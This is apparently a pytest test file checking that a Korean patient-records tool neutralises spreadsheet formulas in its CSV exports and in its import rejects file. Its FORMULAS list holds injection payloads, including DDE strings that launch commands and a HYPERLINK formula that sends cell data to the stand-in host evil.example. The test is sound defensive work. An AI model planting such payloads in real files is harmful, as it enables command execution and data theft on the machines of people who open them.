"""No CSV privdesk writes hands a spreadsheet a live formula (issue 10): the patient export (masked
and unmasked), the access-log export, the disclosure ledger export and the import's rejects file
prefix a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return with ``'`` — and
the rejects file, corrected and imported again, gives the original values back."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from privdesk.accounts.users import login
from privdesk.context import AppContext
from privdesk.disclosures import ledger
from privdesk.files import csv_cell, read_cell
from privdesk.registry.patients import create_patient, unmask
from privdesk.registry.search import search
from privdesk.registry.validation import PatientInput
from tests.hardening_support import as_officer, cli
from tests.helpers import OFFICER_LOGIN, OFFICER_PASSWORD
from tests.test_disclosures import police
from tests.ui_patients_support import rrn

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "클릭")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ADDRESS = "=cmd|' /C calc'!A0"


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def assert_no_live_formula(path: Path) -> list[list[str]]:
    rows = rows_of(path)
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (path.name, cell)
    return rows


@pytest.mark.parametrize(
    "value", [*FORMULAS, "'=already quoted", "''@twice", "보통 글", "", "010-1234-5678", "-", "'", "it's"]
)
def test_the_one_neutraliser_round_trips(value: str) -> None:
    written = csv_cell(value)
    assert not written or written[0] not in "=+-@\t\r"
    assert read_cell(written) == value


def test_patient_export_masked_and_unmasked(ctx: AppContext, tmp_path: Path) -> None:
    officer = login(ctx, OFFICER_LOGIN, OFFICER_PASSWORD)
    create_patient(
        ctx,
        officer,
        PatientInput(
            chart_no="C-0001",
            name="홍길동",
            rrn=rrn("900101123456"),
            address=ADDRESS,
            phones=("010-1234-5678",),
        ),
    )
    for extra, expected in (([], "'=cmd|'"), (["--unmasked"], "'" + ADDRESS)):
        out = tmp_path / f"export{len(extra)}.csv"
        r = cli(ctx, "patient", "export", "--out", str(out), "--reason", "주소 점검", *extra, *as_officer())
        assert r.returncode == 0, r.stderr
        rows = assert_no_live_formula(out)
        assert rows[1][5] == expected
        assert read_cell(rows[1][5]) == expected[1:]


def test_access_log_export(ctx: AppContext, tmp_path: Path) -> None:
    officer = login(ctx, OFFICER_LOGIN, OFFICER_PASSWORD)
    with ctx.unit(officer) as u:  # entries whose subject and detail came from typed text
        for i, formula in enumerate(FORMULAS):
            u.log("view", formula, detail=FORMULAS[-1 - i])
    out = tmp_path / "log.csv"
    r = cli(ctx, "audit", "export", "--out", str(out), "--reason", "감사 자료", *as_officer())
    assert r.returncode == 0, r.stderr
    rows = assert_no_live_formula(out)
    assert rows[0][13] == "대상 참조"
    subjects = [read_cell(row[13]) for row in rows[1:]]
    stored = [
        f.replace("\t", " ").replace("\r", " ") for f in FORMULAS
    ]  # the chain keeps no control characters
    assert [f for f in stored if f not in subjects] == []


def test_disclosure_export(ctx: AppContext, tmp_path: Path) -> None:
    officer = login(ctx, OFFICER_LOGIN, OFFICER_PASSWORD)
    p = create_patient(ctx, officer, PatientInput(chart_no="C-0002", name="김영희", rrn=rrn("850615234567")))
    ledger.record_disclosure(
        ctx,
        officer,
        police(
            p.id,
            recipient=FORMULAS[1],
            recipient_purpose=FORMULAS[2],
            items=FORMULAS[3],
            document_no=FORMULAS[4],
            note="-메모",
        ),
    )
    out = tmp_path / "ledger.csv"
    r = cli(
        ctx,
        "disclosure",
        "export",
        "--reason",
        "업무 확인",
        "--from",
        "2020-01-01",
        "--to",
        "2035-12-31",
        "--out",
        str(out),
        *as_officer(),
    )
    assert r.returncode == 0, r.stderr
    rows = assert_no_live_formula(out)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert read_cell(cell["이용기관·제공받는 자"]) == FORMULAS[1] and read_cell(cell["비고"]) == "-메모"


def test_rejects_file_neutralised_then_corrected_and_imported_with_the_original_values(
    ctx: AppContext, tmp_path: Path
) -> None:
    source = tmp_path / "emr.csv"
    good = rrn("800101123456")
    with source.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["차트번호", "이름", "주민등록번호", "주소", "연락처"])
        w.writerow(["C-1001", "김철수", "800101-1234567x", ADDRESS, "010-2222-3333"])  # bad resident number
        w.writerow(["C-1002", '=HYPERLINK("x")', good, "부산", ""])  # bad name
        w.writerow(["C-1003", "이영희", "123", "@SUM(1+1)", "-"])  # bad resident number
    r = cli(ctx, "patient", "import", str(source), *as_officer())
    assert r.returncode == 0, r.stderr
    rejects = source.with_name("emr.csv.rejects.csv")
    rows = assert_no_live_formula(rejects)
    assert rows[0][:2] == ["줄번호", "사유"]
    by_chart = {read_cell(row[2]): row for row in rows[1:]}
    assert by_chart["C-1001"][5] == "'" + ADDRESS and by_chart["C-1002"][3] == '\'=HYPERLINK("x")'
    assert by_chart["C-1003"][5:7] == ["'@SUM(1+1)", "'-"]

    # the officer corrects the resident number and the name in a spreadsheet and imports the file
    corrected = tmp_path / "corrected.csv"
    with corrected.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(rows[0])
        for row in rows[1:]:
            row = list(row)
            if read_cell(row[2]) == "C-1001":
                row[4] = rrn("800102123456")
            if read_cell(row[2]) == "C-1002":
                row[3] = "박민수"
            w.writerow(row)
    r = cli(ctx, "patient", "import", str(corrected), *as_officer())
    assert r.returncode == 0, r.stderr
    assert r.stdout.startswith("imported 2, rejected 1"), r.stdout  # C-1003 was not corrected
    officer = login(ctx, OFFICER_LOGIN, OFFICER_PASSWORD)
    [hit] = search(ctx, officer, "C-1001").rows
    assert unmask(ctx, officer, hit.id, "주소 확인").address == ADDRESS  # the prefix was taken off again
